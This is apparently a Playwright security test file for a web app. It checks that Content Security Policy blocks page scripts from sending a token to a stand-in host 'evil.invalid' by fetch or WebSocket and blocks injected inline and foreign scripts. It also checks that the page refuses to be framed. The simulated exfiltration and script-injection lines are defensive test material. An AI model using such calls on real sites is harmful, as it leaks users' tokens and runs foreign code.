import { createServer } from 'node:http';

import type { Page } from '@playwright/test';

import { ANY_PAGE } from '../../fixtures/any-page';
import { expect, test } from '../../fixtures/test';
import { freePort } from '@trait-market/scripts/product/product';

const EVIL = 'https://evil.invalid';

const watchEvil = async (page: Page): Promise<() => number> => {
  let reached = 0;
  await page.route(`${EVIL}/**`, (route) => {
    reached += 1;
    return route.fulfill({
      status: 200,
      body: '',
      headers: { 'access-control-allow-origin': '*' },
    });
  });
  return () => reached;
};

test.beforeEach(({ browserErrors }) => {
  browserErrors.allow(/^foreign origin: (?:https|wss):\/\/evil\.invalid\//);
  browserErrors.allow(/^console: .*(?:evil\.invalid|inline script|Content Security Policy)/i);
});

test('T26 a script on the page cannot call another origin, and no injected script runs', async ({
  page,
  browserErrors,
}) => {
  browserErrors.require(/^csp: connect-src blocked https:\/\/evil\.invalid/);
  browserErrors.require(/^csp: connect-src blocked wss:\/\/evil\.invalid/);
  const reached = await watchEvil(page);
  await page.goto(ANY_PAGE);
  const outcomes = await page.evaluate(async (evil) => {
    const socket = () =>
      new Promise((resolve, reject) => {
        const opening = new WebSocket(evil.replace('https', 'wss'));
        opening.addEventListener('open', resolve);
        opening.addEventListener('error', reject);
      });
    const attempts = [fetch(`${evil}/?token=1`), socket()];
    return (await Promise.allSettled(attempts)).map(({ status }) => status);
  }, `${EVIL}`);
  expect(outcomes).toEqual(['rejected', 'rejected']);

  browserErrors.require(/^csp: script-src-elem blocked inline/);
  browserErrors.require(/^csp: script-src-elem blocked https:\/\/evil\.invalid/);
  await page.evaluate((evil) => {
    const inline = document.createElement('script');
    inline.textContent = 'window.hasRun = true';
    const foreign = document.createElement('script');
    foreign.src = `${evil}/x.js`;
    document.body.append(inline, foreign);
  }, EVIL);
  expect(await page.evaluate(() => 'hasRun' in window)).toBe(false);
  expect(reached()).toBe(0);
});

const serveFraming = async (address: string) => {
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><title>Framing</title><iframe src="${address}"></iframe>`);
  });
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${port}/`,
    stop: () => new Promise((resolve) => server.close(resolve)),
  };
};

test('T50 in a frame the page stays blank', async ({ page, product, browserErrors }) => {
  const framing = await serveFraming(`${product.bffUrl}/`);
  browserErrors.allow(new RegExp(`^foreign origin: ${framing.url}`));
  browserErrors.allow(/^console: .*Failed to load resource/);
  const refused = page.waitForEvent(
    'requestfailed',
    (request) => request.url() === `${product.bffUrl}/`,
  );
  await page.goto(framing.url);
  expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
  const frame = page.frameLocator('iframe');
  await expect(frame.getByRole('banner')).toHaveCount(0);
  const urls = page.frames().map((each) => each.url());
  expect(urls.filter((url) => url.startsWith(product.bffUrl))).toEqual([]);
  await page.close();
  await framing.stop();
});
